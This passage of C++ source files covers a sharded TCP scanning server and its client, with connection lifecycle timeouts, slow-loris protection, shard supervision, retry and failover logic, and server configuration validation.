  /// connections_dropped.
  std::uint64_t timeout_closes = 0;
  /// Scan requests refused over max_inflight_per_connection (also
  /// counted in scans_rejected).
  std::uint64_t inflight_refused = 0;

  // --- Supervision (all zero when ServerConfig::supervision is unset) ----
  std::uint64_t shards_condemned = 0;  ///< Stall + death condemnations.
  std::uint64_t shards_rebuilt = 0;
  std::uint64_t shard_rebuild_failures = 0;
  /// Clean connections migrated off a condemned shard.
  std::uint64_t connections_redealt = 0;
  /// Quarantine refusals (also counted in scans_rejected).
  std::uint64_t scans_quarantined = 0;
  /// Verdicts served by the brownout screen (level 2); also in scans_ok.
  std::uint64_t scans_screened = 0;
};

class MelServer {
 public:
  /// Validates, builds every shard's private stack, restores durable
  /// state (applying restored calibrations to all shards), binds the
  /// listener and starts the threads. On return the server is serving.
  [[nodiscard]] static util::StatusOr<std::unique_ptr<MelServer>> start(
      ServerConfig config);

  MelServer(const MelServer&) = delete;
  MelServer& operator=(const MelServer&) = delete;
  ~MelServer();

  /// The bound TCP port (the ephemeral pick when config.port was 0).
  [[nodiscard]] std::uint16_t port() const noexcept { return port_; }
  [[nodiscard]] std::size_t shard_count() const noexcept {
    return shards_.size();
  }
  [[nodiscard]] const ServerConfig& config() const noexcept {
    return config_;
  }

  /// Shard-local service, for tests and scrapes (each shard has its own
  /// metrics registry; aggregate by iterating shards).
  [[nodiscard]] const service::ScanService& shard_service(
      std::size_t shard) const;

  /// Worst-of-shards health: kServing only when every shard serves.
  [[nodiscard]] service::ServiceState state() const noexcept;

  [[nodiscard]] ServerStats stats() const noexcept;

  /// Applies a new calibration to `tenant` on EVERY shard (first error
  /// wins, remaining shards still attempted). kDefaultTenant retargets
  /// the service-wide detector.
  [[nodiscard]] util::Status apply_calibration(
      service::TenantId tenant, const core::DetectorConfig& config,
      double tau);

  /// The StateManager owning `tenant`'s durable state; null when no
  /// snapshot path was configured for it (kDefaultTenant keys the
  /// ServerConfig::snapshot_path manager) and per-tenant drift is off.
  [[nodiscard]] std::shared_ptr<persist::StateManager> state_manager(
      service::TenantId tenant) const;

  /// The tenant's private drift monitor; null unless ServerConfig::drift
  /// was set.
  [[nodiscard]] std::shared_ptr<persist::DriftMonitor> drift_monitor(
      service::TenantId tenant) const;

  /// The supervision subsystem; null unless ServerConfig::supervision
  /// was set. Tests reach the table/quarantine/brownout through it.
  [[nodiscard]] super::Supervisor* supervisor() const noexcept {
    return supervisor_.get();
  }

  /// Graceful shutdown: stop accepting, flush pending responses, drain
  /// every shard's service, save every StateManager, join all threads.
  /// Idempotent.
  void drain();

 private:
  MelServer() = default;

  struct Connection {
    int fd = -1;
    FrameDecoder decoder;
    util::ByteBuffer out;        ///< Pending response bytes.
    std::size_t out_pos = 0;     ///< Already-written prefix of out.
    bool close_after_flush = false;

    // Lifecycle timers, all on the fault::now() axis. A time_point of
    // max() means "that timer is not running".
    std::chrono::steady_clock::time_point last_read_at{};
    /// When the currently-buffered partial frame started.
    std::chrono::steady_clock::time_point read_start =
        std::chrono::steady_clock::time_point::max();
    /// When the pending response bytes first became pending.
    std::chrono::steady_clock::time_point write_start =
        std::chrono::steady_clock::time_point::max();
    /// Slow-loris accounting: bytes delivered since the window opened.
    std::chrono::steady_clock::time_point loris_window_start =
        std::chrono::steady_clock::time_point::max();
    std::size_t loris_window_bytes = 0;
    /// Scan responses buffered since the out buffer last drained.
    std::size_t inflight = 0;
    /// True across the synchronous service scan for this connection's
    /// current frame. Only the owning shard thread writes it, but it
    /// survives a crash-only exit: recovery reads it (after joining the
    /// thread) to tell a request genuinely in flight on the wedged scan
    /// from a merely torn partial frame the client was still writing.
    bool scanning = false;
  };

  struct Shard {
    std::thread thread;
    Poller poller;
    int wake_read_fd = -1;
    int wake_write_fd = -1;
    /// Acceptor -> shard hand-off (the only cross-thread state).
    std::mutex inbox_mutex;
    std::vector<int> inbox;
    /// This shard's SupervisionTable slot (== its index in shards_).
    std::size_t index = 0;
    /// Set on the shard thread when a fault point or condemnation
    /// demands a crash-only exit mid-iteration (only the shard thread
    /// touches it).
    bool crash_exit = false;
    /// When the supervisor first observed this shard condemned without
    /// its thread having exited (max() = not in that state). Acceptor
    /// thread only. Past SupervisorConfig::rebuild_deadline the shard
    /// is treated as uncooperatively wedged and its accepted-but-
    /// unadopted inbox fds are refused instead of stranded.
    std::chrono::steady_clock::time_point condemned_at =
        std::chrono::steady_clock::time_point::max();

    /// Serializes REPLACEMENT of the scan stack (build_shard_stack on
    /// the recovery path destroys and reconstructs `service`/`cache`)
    /// against the cross-thread readers: the calibration fan-out
    /// (apply_calibration, reachable from any shard's drift loop) and
    /// health scrapes (state()). The shard's own hot path never takes
    /// it — the shard thread only runs while its stack is stable (it is
    /// joined before a rebuild and restarted after).
    mutable std::mutex service_mutex;
    /// The shard-private scan stack.
    std::optional<service::ScanService> service;
    std::shared_ptr<persist::VerdictCache> cache;
    std::unique_ptr<exec::MelScratch> scratch;
    std::unordered_map<int, Connection> connections;

    std::atomic<std::uint64_t> frames_received{0};
    std::atomic<std::uint64_t> scans_ok{0};
    std::atomic<std::uint64_t> scans_rejected{0};
    std::atomic<std::uint64_t> connections_dropped{0};
    std::atomic<std::uint64_t> timeout_closes{0};
    std::atomic<std::uint64_t> inflight_refused{0};
  };

  void acceptor_loop();
  void shard_loop(Shard& shard);
  void wake(Shard& shard);
  /// Deals `fd` to a healthy shard inbox, or refuses it (over
  /// max_connections, or no healthy shard to take it).
  void dispatch_connection(int fd);

  /// Builds (or rebuilds) `shard`'s private scan stack — divided
  /// admission, cache slice, service, scratch, poller, wake pipe —
  /// from config_. Used at start() and on the shard-recovery path.
  [[nodiscard]] util::Status build_shard_stack(Shard& shard);
  /// Crash-only exit bookkeeping, run on the shard thread as its last
  /// act: connections are abandoned (fds stay open for the supervisor
  /// to re-deal or refuse), the slot is marked exited.
  void shard_crash_exit(Shard& shard);
  /// One supervisor pass (acceptor thread): condemn stalled/dead
  /// shards, recover exited ones.
  void supervise_tick();
  /// Joins a condemned+exited shard, re-deals its salvageable
  /// connections, rebuilds its stack, re-applies persisted
  /// calibrations, and restarts its thread. On failure the shard stays
  /// condemned and the next tick retries.
  void recover_shard(std::size_t index);
  /// A condemned shard whose thread has not exited within
  /// rebuild_deadline cannot be recovered in-process (threads are not
  /// force-killable); its accepted-but-never-adopted inbox fds would
  /// otherwise be stranded forever. Refuse them with a typed
  /// kUnavailable + retry-after and close. Acceptor thread only.
  void refuse_stranded_inbox(Shard& shard);

  // Shard-loop helpers (all run on the shard's own thread).
  void shard_adopt_inbox(Shard& shard);
  void shard_read(Shard& shard, Connection& conn);
  void shard_handle_frame(Shard& shard, Connection& conn,
                          const FrameView& frame);
  /// Returns false when flushing closed the connection (backpressure
  /// overflow, write error, or a completed close_after_flush) — the
  /// Connection is destroyed and must not be touched again.
  bool shard_flush(Shard& shard, Connection& conn);
  void shard_close(Shard& shard, int fd, bool dropped);
  /// Recomputes and arms the connection's earliest lifecycle deadline
  /// on the shard poller.
  void shard_arm_deadlines(Shard& shard, Connection& conn);
  /// Evaluates lifecycle deadlines against fault::now() (timer events
  /// are wakeup hints; activity in the same batch may have renewed a
  /// deadline). Returns false when a violation closed the connection.
  bool shard_check_deadlines(Shard& shard, Connection& conn);

  ServerConfig config_;
  std::uint16_t port_ = 0;
  int listen_fd_ = -1;
  int acceptor_wake_read_fd_ = -1;
  int acceptor_wake_write_fd_ = -1;

  std::vector<std::unique_ptr<Shard>> shards_;
  std::thread acceptor_;
  std::atomic<bool> stopping_{false};
  std::atomic<bool> drained_{false};
  std::atomic<std::uint64_t> next_shard_{0};
  std::atomic<std::size_t> active_connections_{0};
  std::atomic<std::uint64_t> connections_accepted_{0};
  std::atomic<std::uint64_t> connections_refused_{0};
  std::atomic<std::uint64_t> connections_redealt_{0};
  std::atomic<std::uint64_t> scans_quarantined_{0};
  std::atomic<std::uint64_t> scans_screened_{0};

  /// Built at start() when ServerConfig::supervision is set.
  std::unique_ptr<super::Supervisor> supervisor_;

  std::unordered_map<service::TenantId,
                     std::shared_ptr<persist::StateManager>>
      state_managers_;
  /// Per-tenant drift monitors (ServerConfig::drift). Built before the
  /// shard threads start and immutable after — shards read it without
  /// locks; DriftMonitor::observe is itself thread-safe.
  std::unordered_map<service::TenantId,
                     std::shared_ptr<persist::DriftMonitor>>
      drift_monitors_;
};

}  // namespace mel::net
