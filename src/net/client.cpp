#include "mel/net/client.hpp"

#include <cerrno>
#include <cstring>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

namespace mel::net {

namespace {

std::string errno_string(const char* what) {
  return std::string(what) + ": " + std::strerror(errno);
}

}  // namespace

util::StatusOr<ScanClient> ScanClient::connect(ClientConfig config) {
  if (util::Status status = config.frame.validate(); !status.is_ok()) {
    return status;
  }
  ScanClient client;
  client.config_ = std::move(config);
  client.decoder_ = std::make_unique<FrameDecoder>(client.config_.frame);

  client.fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (client.fd_ < 0) {
    return util::Status::internal(errno_string("socket"));
  }
  ::sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(client.config_.port);
  if (::inet_pton(AF_INET, client.config_.host.c_str(), &addr.sin_addr) != 1) {
    client.close();
    return util::Status::invalid_argument(
        "ClientConfig::host is not an IPv4 address: " + client.config_.host);
  }
  if (::connect(client.fd_, reinterpret_cast<const ::sockaddr*>(&addr),
                sizeof(addr)) != 0) {
    client.close();
    return util::Status::unavailable(errno_string("connect"));
  }
  const int nodelay = 1;
  (void)::setsockopt(client.fd_, IPPROTO_TCP, TCP_NODELAY, &nodelay,
                     sizeof(nodelay));
  return client;
}

ScanClient::ScanClient(ScanClient&& other) noexcept
    : config_(std::move(other.config_)),
      fd_(other.fd_),
      next_request_id_(other.next_request_id_),
      decoder_(std::move(other.decoder_)) {
  other.fd_ = -1;
}

ScanClient& ScanClient::operator=(ScanClient&& other) noexcept {
  if (this != &other) {
    close();
    config_ = std::move(other.config_);
    fd_ = other.fd_;
    next_request_id_ = other.next_request_id_;
    decoder_ = std::move(other.decoder_);
    other.fd_ = -1;
  }
  return *this;
}

ScanClient::~ScanClient() { close(); }

void ScanClient::close() noexcept {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

util::Status ScanClient::send_all(const util::ByteBuffer& bytes) {
  std::size_t sent = 0;
  while (sent < bytes.size()) {
    const ::ssize_t n =
        ::send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      close();
      return util::Status::unavailable(errno_string("send"));
    }
    sent += static_cast<std::size_t>(n);
  }
  return util::Status::ok();
}

util::StatusOr<FrameView> ScanClient::read_frame() {
  while (true) {
    auto next = decoder_->next();
    if (!next.is_ok()) {
      close();  // Server spoke garbage; the stream is unrecoverable.
      return next.status();
    }
    if (next.value().has_value()) return *next.value();

    std::span<std::uint8_t> area = decoder_->write_area(16 * 1024);
    const ::ssize_t n = ::recv(fd_, area.data(), area.size(), 0);
    if (n < 0) {
      decoder_->commit(0);
      if (errno == EINTR) continue;
      close();
      return util::Status::unavailable(errno_string("recv"));
    }
    if (n == 0) {
      decoder_->commit(0);
      close();
      return util::Status::unavailable(
          "server closed the connection mid-response");
    }
    decoder_->commit(static_cast<std::size_t>(n));
  }
}

util::StatusOr<WireVerdict> ScanClient::round_trip_scan(
    const util::ByteBuffer& frame, std::uint64_t request_id) {
  if (util::Status status = send_all(frame); !status.is_ok()) return status;
  auto response = read_frame();
  if (!response.is_ok()) return response.status();
  const FrameView& view = response.value();
  // Protocol-level refusals (malformed frame, connection limit) carry
  // request id 0: the server could not attribute them to one request.
  // Everything else must echo our id exactly.
  if (view.header.request_id != request_id &&
      !(view.header.type == FrameType::kError &&
        view.header.request_id == 0)) {
    close();
    return util::Status::internal(
        "server echoed request id " +
        std::to_string(view.header.request_id) + ", expected " +
        std::to_string(request_id));
  }
  switch (view.header.type) {
    case FrameType::kVerdict: {
      auto verdict = decode_verdict_body(view.payload);
      decoder_->release();
      if (!verdict.is_ok()) {
        close();
        return verdict.status();
      }
      return std::move(verdict).take();
    }
    case FrameType::kError: {
      auto error = decode_error_body(view.payload);
      decoder_->release();
      if (!error.is_ok()) {
        close();
        return error.status();
      }
      // Hand the server's typed refusal to the caller verbatim. The
      // connection stays usable: server-side errors are frame-scoped.
      return std::move(error).take().status;
    }
    default:
      decoder_->release();
      close();
      return util::Status::internal(
          "server answered a scan with an unexpected frame type");
  }
}

util::StatusOr<WireVerdict> ScanClient::scan(util::ByteView payload) {
  if (fd_ < 0) {
    return util::Status::unavailable("client is not connected");
  }
  if (payload.size() > config_.frame.max_payload_bytes) {
    return util::Status::payload_too_large(
        "payload of " + std::to_string(payload.size()) +
        " bytes exceeds the frame limit of " +
        std::to_string(config_.frame.max_payload_bytes));
  }
  const std::uint64_t request_id = next_request_id_++;
  return round_trip_scan(
      encode_scan_request(config_.tenant, request_id, payload), request_id);
}

util::Status ScanClient::ping() {
  if (fd_ < 0) {
    return util::Status::unavailable("client is not connected");
  }
  const std::uint64_t request_id = next_request_id_++;
  if (util::Status status = send_all(encode_ping(request_id));
      !status.is_ok()) {
    return status;
  }
  auto response = read_frame();
  if (!response.is_ok()) return response.status();
  const FrameView view = response.value();
  decoder_->release();
  if (view.header.type != FrameType::kPong ||
      view.header.request_id != request_id) {
    close();
    return util::Status::internal("malformed pong");
  }
  return util::Status::ok();
}

}  // namespace mel::net
