#include "mel/net/client.hpp"

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <thread>

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include "mel/util/fault_injection.hpp"
#include "mel/util/fault_socket.hpp"

namespace mel::net {

namespace {

constexpr auto kNoDeadline =
    std::chrono::steady_clock::time_point::max();

std::string errno_string(const char* what) {
  return std::string(what) + ": " + std::strerror(errno);
}

util::Status set_nonblocking(int fd) {
  const int flags = ::fcntl(fd, F_GETFL, 0);
  if (flags < 0 || ::fcntl(fd, F_SETFL, flags | O_NONBLOCK) < 0) {
    return util::Status::internal(errno_string("fcntl(O_NONBLOCK)"));
  }
  return util::Status::ok();
}

}  // namespace

util::StatusOr<ScanClient> ScanClient::connect(ClientConfig config) {
  if (util::Status status = config.frame.validate(); !status.is_ok()) {
    return status;
  }
  if (util::Status status = config.retry.validate(); !status.is_ok()) {
    return status;
  }
  if (config.request_deadline.count() < 0 ||
      config.connect_deadline.count() < 0) {
    return util::Status::invalid_config(
        "ClientConfig deadlines must be >= 0 (0 disables)");
  }
  ScanClient client;
  client.config_ = std::move(config);
  client.endpoints_.push_back(
      ClientEndpoint{client.config_.host, client.config_.port});
  for (const ClientEndpoint& ep : client.config_.failover) {
    client.endpoints_.push_back(ep);
  }
  if (util::Status status = client.ensure_connected(kNoDeadline);
      !status.is_ok()) {
    return status;
  }
  return client;
}

ScanClient::ScanClient(ScanClient&& other) noexcept
    : config_(std::move(other.config_)),
      endpoints_(std::move(other.endpoints_)),
      endpoint_(other.endpoint_),
      fd_(other.fd_),
      ever_connected_(other.ever_connected_),
      next_request_id_(other.next_request_id_),
      decoder_(std::move(other.decoder_)),
      stats_(other.stats_) {
  other.fd_ = -1;
}

ScanClient& ScanClient::operator=(ScanClient&& other) noexcept {
  if (this != &other) {
    close();
    config_ = std::move(other.config_);
    endpoints_ = std::move(other.endpoints_);
    endpoint_ = other.endpoint_;
    fd_ = other.fd_;
    ever_connected_ = other.ever_connected_;
    next_request_id_ = other.next_request_id_;
    decoder_ = std::move(other.decoder_);
    stats_ = other.stats_;
    other.fd_ = -1;
  }
  return *this;
}

ScanClient::~ScanClient() { close(); }

void ScanClient::close() noexcept {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

ScanClient::TimePoint ScanClient::call_deadline() const noexcept {
  if (config_.request_deadline.count() == 0) return kNoDeadline;
  return util::fault::now() + config_.request_deadline;
}

util::Status ScanClient::connect_endpoint(const ClientEndpoint& ep,
                                          TimePoint deadline) {
  fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd_ < 0) {
    return util::Status::internal(errno_string("socket"));
  }
  if (util::Status status = set_nonblocking(fd_); !status.is_ok()) {
    close();
    return status;
  }
  ::sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(ep.port);
  if (::inet_pton(AF_INET, ep.host.c_str(), &addr.sin_addr) != 1) {
    close();
    return util::Status::invalid_argument(
        "client endpoint host is not an IPv4 address: " + ep.host);
  }
  if (::connect(fd_, reinterpret_cast<const ::sockaddr*>(&addr),
                sizeof(addr)) != 0) {
    if (errno != EINPROGRESS) {
      close();
      return util::Status::unavailable(errno_string("connect"));
    }
    if (util::Status status = await(POLLOUT, deadline, "connect");
        !status.is_ok()) {
      close();
      return status;
    }
    int so_error = 0;
    ::socklen_t len = sizeof(so_error);
    if (::getsockopt(fd_, SOL_SOCKET, SO_ERROR, &so_error, &len) != 0 ||
        so_error != 0) {
      close();
      errno = so_error != 0 ? so_error : errno;
      return util::Status::unavailable(errno_string("connect"));
    }
  }
  const int nodelay = 1;
  (void)::setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &nodelay,
                     sizeof(nodelay));
  return util::Status::ok();
}

util::Status ScanClient::ensure_connected(TimePoint deadline) {
  if (fd_ >= 0) return util::Status::ok();
  util::Status last = util::Status::unavailable("no endpoints configured");
  for (std::size_t i = 0; i < endpoints_.size(); ++i) {
    const std::size_t index = (endpoint_ + i) % endpoints_.size();
    TimePoint attempt_deadline = deadline;
    if (config_.connect_deadline.count() > 0) {
      const TimePoint bound =
          util::fault::now() + config_.connect_deadline;
      attempt_deadline = std::min(attempt_deadline, bound);
    }
    last = connect_endpoint(endpoints_[index], attempt_deadline);
    if (last.is_ok()) {
      if (index != endpoint_) {
        endpoint_ = index;
        ++stats_.failovers;
      }
      if (ever_connected_) ++stats_.reconnects;
      ever_connected_ = true;
      // Fresh decoder per connection: a poisoned response stream (or
      // half a torn frame) cannot leak into the new byte stream.
      decoder_ = std::make_unique<FrameDecoder>(config_.frame);
      return util::Status::ok();
    }
    if (deadline != kNoDeadline && util::fault::now() >= deadline) {
      return util::Status::deadline_exceeded(
          "request deadline exceeded while reconnecting");
    }
  }
  return last;
}

util::Status ScanClient::await(short events, TimePoint deadline,
                               const char* what) {
  while (true) {
    int timeout_ms = -1;
    if (deadline != kNoDeadline) {
      const auto now = util::fault::now();
      if (now >= deadline) {
        return util::Status::deadline_exceeded(
            std::string(what) + ": request deadline exceeded");
      }
      const auto remaining =
          std::chrono::duration_cast<std::chrono::milliseconds>(deadline -
                                                                now);
      // +1ms so we sleep past the deadline, not up to just before it.
      timeout_ms = static_cast<int>(
          std::min<std::chrono::milliseconds::rep>(remaining.count() + 1,
                                                   60'000));
    }
    ::pollfd p{};
    p.fd = fd_;
    p.events = events;
    const int n = ::poll(&p, 1, timeout_ms);
    if (n < 0) {
      if (errno == EINTR) continue;
      close();
      return util::Status::internal(errno_string("poll"));
    }
    if (n == 0) continue;  // Timeout tick: deadline re-checked on top.
    // POLLERR/POLLHUP: fall through and let the read()/write() observe
    // the real error (data may still be readable on HUP).
    return util::Status::ok();
  }
}

util::Status ScanClient::send_all(const util::ByteBuffer& bytes,
                                  TimePoint deadline) {
  std::size_t sent = 0;
  while (sent < bytes.size()) {
    const ::ssize_t n = util::fault::sock_write(
        fd_, bytes.data() + sent, bytes.size() - sent);
    if (n < 0) {
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        if (util::Status status = await(POLLOUT, deadline, "send");
            !status.is_ok()) {
          // Deadline mid-request: the torn request poisons the stream
          // for pipelining, so drop the connection with it.
          close();
          return status;
        }
        continue;
      }
      close();
      return util::Status::unavailable(errno_string("send"));
    }
    sent += static_cast<std::size_t>(n);
  }
  return util::Status::ok();
}

util::StatusOr<FrameView> ScanClient::read_frame(TimePoint deadline) {
  while (true) {
    auto next = decoder_->next();
    if (!next.is_ok()) {
      // Server spoke garbage; the stream is unrecoverable (sticky
      // poison). The next call reconnects with a fresh decoder.
      ++stats_.poisoned_streams;
      close();
      return next.status();
    }
    if (next.value().has_value()) return *next.value();

    if (util::Status status = await(POLLIN, deadline, "recv");
        !status.is_ok()) {
      // A response may now arrive on a stream we will not read; drop
      // the connection so the reply cannot mismatch a later request.
      close();
      return status;
    }
    std::span<std::uint8_t> area = decoder_->write_area(16 * 1024);
    const ::ssize_t n = util::fault::sock_read(fd_, area.data(), area.size());
    if (n < 0) {
      decoder_->commit(0);
      if (errno == EINTR || errno == EAGAIN || errno == EWOULDBLOCK) {
        continue;
      }
      close();
      return util::Status::unavailable(errno_string("recv"));
    }
    if (n == 0) {
      decoder_->commit(0);
      close();
      return util::Status::unavailable(
          "server closed the connection mid-response");
    }
    decoder_->commit(static_cast<std::size_t>(n));
  }
}

util::StatusOr<WireVerdict> ScanClient::round_trip_scan(
    const util::ByteBuffer& frame, std::uint64_t request_id,
    TimePoint deadline) {
  if (util::Status status = send_all(frame, deadline); !status.is_ok()) {
    return status;
  }
  auto response = read_frame(deadline);
  if (!response.is_ok()) return response.status();
  const FrameView& view = response.value();
  // Protocol-level refusals (malformed frame, connection limit,
  // lifecycle timeouts) carry request id 0: the server could not
  // attribute them to one request. Everything else must echo our id
  // exactly.
  if (view.header.request_id != request_id &&
      !(view.header.type == FrameType::kError &&
        view.header.request_id == 0)) {
    close();
    return util::Status::internal(
        "server echoed request id " +
        std::to_string(view.header.request_id) + ", expected " +
        std::to_string(request_id));
  }
  switch (view.header.type) {
    case FrameType::kVerdict: {
      auto verdict = decode_verdict_body(view.payload);
      decoder_->release();
      if (!verdict.is_ok()) {
        close();
        return verdict.status();
      }
      return std::move(verdict).take();
    }
    case FrameType::kError: {
      auto error = decode_error_body(view.payload);
      decoder_->release();
      if (!error.is_ok()) {
        close();
        return error.status();
      }
      // Hand the server's typed refusal to the caller verbatim. The
      // connection stays usable: server-side errors are frame-scoped.
      return std::move(error).take().status;
    }
    default:
      decoder_->release();
      close();
      return util::Status::internal(
          "server answered a scan with an unexpected frame type");
  }
}

util::StatusOr<WireVerdict> ScanClient::scan(util::ByteView payload) {
  if (payload.size() > config_.frame.max_payload_bytes) {
    return util::Status::payload_too_large(
        "payload of " + std::to_string(payload.size()) +
        " bytes exceeds the frame limit of " +
        std::to_string(config_.frame.max_payload_bytes));
  }
  const TimePoint deadline = call_deadline();
  const std::uint64_t request_id = next_request_id_++;
  const util::ByteBuffer frame =
      encode_scan_request(config_.tenant, request_id, payload);
  // One schedule per logical scan; the request id is the jitter stream,
  // so a replay retries with the same delays.
  service::RetrySchedule schedule(config_.retry, request_id);
  while (true) {
    util::Status status = ensure_connected(deadline);
    if (status.is_ok()) {
      auto result = round_trip_scan(frame, request_id, deadline);
      if (result.is_ok()) {
        ++stats_.scans_ok;
        return result;
      }
      status = result.status();
    }
    if (status.code() == util::StatusCode::kDeadlineExceeded) {
      ++stats_.deadline_exceeded;
      return status;
    }
    std::chrono::nanoseconds remaining{-1};
    if (deadline != kNoDeadline) {
      remaining = std::chrono::duration_cast<std::chrono::nanoseconds>(
          deadline - util::fault::now());
      if (remaining.count() < 0) remaining = std::chrono::nanoseconds{0};
    }
    const auto backoff = schedule.next(status, remaining);
    if (!backoff.has_value()) return status;
    ++stats_.retries;
    if (backoff->count() > 0) std::this_thread::sleep_for(*backoff);
  }
}

util::Status ScanClient::ping() {
  const TimePoint deadline = call_deadline();
  if (util::Status status = ensure_connected(deadline); !status.is_ok()) {
    return status;
  }
  const std::uint64_t request_id = next_request_id_++;
  if (util::Status status = send_all(encode_ping(request_id), deadline);
      !status.is_ok()) {
    return status;
  }
  auto response = read_frame(deadline);
  if (!response.is_ok()) return response.status();
  const FrameView view = response.value();
  decoder_->release();
  if (view.header.type != FrameType::kPong ||
      view.header.request_id != request_id) {
    close();
    return util::Status::internal("malformed pong");
  }
  return util::Status::ok();
}

}  // namespace mel::net
