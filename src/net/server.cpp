#include "mel/net/server.hpp"

#include <algorithm>
#include <cassert>
#include <cerrno>
#include <cstring>

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

#include "mel/util/fault_injection.hpp"
#include "mel/util/fault_socket.hpp"
#include "mel/util/logging.hpp"

namespace mel::net {

namespace {

constexpr std::size_t kReadChunkBytes = 16 * 1024;
constexpr auto kNoDeadline = std::chrono::steady_clock::time_point::max();

std::string errno_string(const char* what) {
  return std::string(what) + ": " + std::strerror(errno);
}

util::Status set_nonblocking(int fd) {
  const int flags = ::fcntl(fd, F_GETFL, 0);
  if (flags < 0 || ::fcntl(fd, F_SETFL, flags | O_NONBLOCK) < 0) {
    return util::Status::internal(errno_string("fcntl(O_NONBLOCK)"));
  }
  return util::Status::ok();
}

/// Divides an aggregate admission quota across `shards` token buckets so
/// the per-shard buckets sum (approximately) to the configured limit.
service::AdmissionConfig divide_admission(service::AdmissionConfig admission,
                                          std::size_t shards) {
  if (shards <= 1) return admission;
  const double n = static_cast<double>(shards);
  if (admission.rate_per_sec > 0.0) {
    admission.rate_per_sec /= n;
    admission.burst = std::max(1.0, admission.burst / n);
  }
  if (admission.max_concurrent > 0) {
    admission.max_concurrent =
        std::max<std::size_t>(1, admission.max_concurrent / shards);
  }
  if (admission.max_queue_depth > 0) {
    admission.max_queue_depth =
        std::max<std::size_t>(1, admission.max_queue_depth / shards);
  }
  return admission;
}

WireVerdict to_wire(const service::ScanReport& report) {
  WireVerdict verdict;
  verdict.malicious = report.verdict.malicious;
  verdict.degraded = report.verdict.degraded;
  verdict.is_text = report.verdict.is_text;
  verdict.loop_detected = report.verdict.loop_detected;
  verdict.mel = report.verdict.mel;
  verdict.threshold = report.verdict.threshold;
  verdict.alpha = report.verdict.alpha;
  verdict.scan_id = report.scan_id;
  return verdict;
}

}  // namespace

util::Status ServerConfig::validate() const {
  if (util::Status status = service.validate(); !status.is_ok()) {
    return status;
  }
  if (util::Status status = frame.validate(); !status.is_ok()) {
    return status;
  }
  if (shards == 0 || shards > 256) {
    return util::Status::invalid_config(
        "ServerConfig::shards must be in [1, 256], got " +
        std::to_string(shards));
  }
  if (max_connections == 0) {
    return util::Status::invalid_config(
        "ServerConfig::max_connections must be >= 1");
  }
  if (max_write_buffer_bytes < kFrameHeaderBytes + kVerdictBodyBytes) {
    return util::Status::invalid_config(
        "ServerConfig::max_write_buffer_bytes too small to hold one "
        "verdict frame");
  }
  if (bind_address.empty()) {
    return util::Status::invalid_config(
        "ServerConfig::bind_address must not be empty");
  }
  if (loop_tick.count() < 1) {
    return util::Status::invalid_config(
        "ServerConfig::loop_tick must be >= 1ms");
  }
  if (idle_timeout.count() < 0 || read_deadline.count() < 0 ||
      write_deadline.count() < 0 || slow_loris_interval.count() < 0) {
    return util::Status::invalid_config(
        "ServerConfig lifecycle timeouts must be >= 0 (0 disables)");
  }
  if (slow_loris_interval.count() > 0 && slow_loris_min_bytes == 0) {
    return util::Status::invalid_config(
        "ServerConfig::slow_loris_min_bytes must be >= 1 when "
        "slow_loris_interval is enabled");
  }
  if (max_inflight_per_connection == 0) {
    return util::Status::invalid_config(
        "ServerConfig::max_inflight_per_connection must be >= 1");
  }
  if (drift.has_value()) {
    if (util::Status status = drift->validate(); !status.is_ok()) {
      return status;
    }
  }
  if (supervision.has_value()) {
    if (util::Status status = supervision->validate(); !status.is_ok()) {
      return status;
    }
  }
  // Frames the service would refuse as oversized are still WIRE-valid;
  // but a frame cap above the service payload cap only buffers bytes
  // that are then refused — flag the config instead of serving it.
  if (service.max_payload_bytes != 0 &&
      frame.max_payload_bytes > service.max_payload_bytes) {
    return util::Status::invalid_config(
        "frame.max_payload_bytes exceeds service.max_payload_bytes: the "
        "server would buffer frames the service must refuse");
  }
  return util::Status::ok();
}

util::StatusOr<std::unique_ptr<MelServer>> MelServer::start(
    ServerConfig config) {
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  std::unique_ptr<MelServer> server(new MelServer());
  server->config_ = std::move(config);
  const ServerConfig& cfg = server->config_;

  // --- Build every shard's private scan stack -----------------------------
  for (std::size_t i = 0; i < cfg.shards; ++i) {
    auto shard = std::make_unique<Shard>();
    shard->index = i;
    if (util::Status status = server->build_shard_stack(*shard);
        !status.is_ok()) {
      return status;
    }
    server->shards_.push_back(std::move(shard));
  }

  // --- Supervision (before the shard threads touch the table) -------------
  if (cfg.supervision.has_value()) {
    server->supervisor_ =
        std::make_unique<super::Supervisor>(*cfg.supervision, cfg.shards);
    if (cfg.service.metrics) {
      server->supervisor_->bind_metrics(*cfg.service.metrics);
    }
  }

  // --- Durable state: one StateManager per configured snapshot path ------
  // Created after the shards so restored calibrations have services to
  // land in; the apply hook fans every recalibration out to all shards.
  auto make_manager = [&](service::TenantId tenant,
                          const std::string& snapshot_path,
                          const core::DetectorConfig& detector)
      -> util::Status {
    persist::StateManagerConfig manager_config;
    manager_config.snapshot_path = snapshot_path;
    manager_config.default_anchor_chars = cfg.service.window_size;
    persist::PersistentState cold;
    cold.detector = detector;
    cold.tau = cfg.service.degraded_threshold;
    cold.calibration_point_chars = cfg.service.window_size;
    // Per-tenant drift loop: the monitor sees only this tenant's
    // payloads (the shards feed it per frame.header.tenant), and its
    // drift signal recalibrates only this tenant through the manager.
    std::shared_ptr<persist::DriftMonitor> drift;
    if (cfg.drift.has_value()) {
      auto monitor = persist::DriftMonitor::create(*cfg.drift);
      if (!monitor.is_ok()) return monitor.status();
      drift = std::move(monitor).take();
    }
